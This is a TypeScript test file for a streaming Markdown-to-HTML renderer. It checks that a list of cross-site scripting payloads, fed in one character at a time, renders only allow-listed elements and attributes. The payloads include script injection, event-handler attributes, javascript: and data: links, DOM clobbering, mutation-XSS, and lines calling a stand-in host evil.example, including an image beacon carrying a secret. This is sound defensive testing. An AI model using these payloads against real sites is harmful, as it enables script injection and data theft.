// @vitest-environment happy-dom

import { describe, expect, test } from "vitest";
import { Drawn } from "./drawn.js";

const ATTACKS = [
  "<script>window.hit = 1</script>",
  "a <script>window.hit = 1</script> b",
  "<img src=x onerror=window.hit=1>",
  "<svg onload=window.hit=1>",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "<a href=javascript:window.hit=1>x</a>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example><input name=q></form>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<div id=location name=body style='position:fixed;inset:0'>x</div>",
  "[x](javascript:window.hit=1)",
  "[x](JaVa\tScRiPt:window.hit=1)",
  "[x](&#106;avascript:window.hit=1)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:window.hit)",
  '[x](https://ok.example "\\" onmouseover=\\"window.hit=1")',
  '[x](https://ok.example/"onmouseover="window.hit=1)',
  '<https://ok.example/"onmouseover=window.hit=1>',
  "![x](https://evil.example/?q=secret)",
  '![" onerror="window.hit=1](https://evil.example/x)',
  "![x](javascript:window.hit=1)",
  "![x](data:image/svg+xml,<svg onload=window.hit=1>)",
  '```"><script>window.hit=1</script>\nx\n```',
  "```html\n<script>window.hit=1</script>\n```",
  "| <script>window.hit=1</script> |\n|---|\n| <img src=x onerror=window.hit=1> |",
  "- [ ] <input onfocus=window.hit=1 autofocus>",
  "[^x]\n\n[^x]: <script>window.hit=1</script>",
  '[^"><img src=x onerror=window.hit=1>]\n\n[^"><img src=x onerror=window.hit=1>]: x',
  "[x]: javascript:window.hit=1\n\n[x]",
  "<!--><script>window.hit=1</script>-->",
  "<![CDATA[<script>window.hit=1</script>]]>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
];

const ELEMENTS = new Set(
  "A B BLOCKQUOTE BR BUTTON CODE DEL DETAILS DIV EM H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SECTION SPAN STRONG SUMMARY SUP TABLE TBODY TD TH THEAD TR UL".split(
    " ",
  ),
);

const ATTRIBUTES = new Set(
  "aria-label checked class data-align data-language data-pending data-task data-tip dir disabled href id open rel role start tabindex target title type value".split(
    " ",
  ),
);

function check(root: Element): void {
  for (const element of root.querySelectorAll("*")) {
    expect(ELEMENTS, element.outerHTML).toContain(element.tagName);
    for (const attribute of element.getAttributeNames()) expect(ATTRIBUTES, element.outerHTML).toContain(attribute);
    const href = element.getAttribute("href");
    if (href !== null) expect(href).toMatch(/^(https?:\/\/|mailto:|#p-|[^:]*$)/);
    const id = element.getAttribute("id");
    if (id !== null) expect(id).toMatch(/^p-/);
  }
  expect("hit" in window).toBe(false);
}

describe.each(ATTACKS)("%s", (attack) => {
  test.each([
    attack,
    `before\n\n${attack}\n\nafter`,
    `> - ${attack}`,
    `<details><summary>${attack}</summary>\n\n${attack}`,
  ])("in %j is harmless at every cut", (markdown) => {
    const drawn = new Drawn();
    for (const character of markdown) {
      drawn.push(character);
      check(drawn.root);
    }
    drawn.end();
    check(drawn.root);
  });
});

test("what the tree should never hold is not made either", () => {
  const drawn = new Drawn();
  const { document } = drawn.engine;
  const attributes = { onclick: "window.hit = 1", style: "position: fixed", id: "location", dir: "rtl" };
  document.children.push({ kind: "box", tag: "script", attributes, children: [], settled: 0, open: false });
  document.children.push({
    kind: "paragraph",
    children: [{ kind: "element", tag: "iframe", attributes, children: [] }],
    settled: 1,
    open: false,
    waiting: false,
  });
  drawn.update();
  check(drawn.root);
  expect(drawn.all("[dir]").map((element) => element.outerHTML)).toEqual([
    '<span dir="rtl"></span>',
    '<span dir="rtl"></span>',
  ]);
});
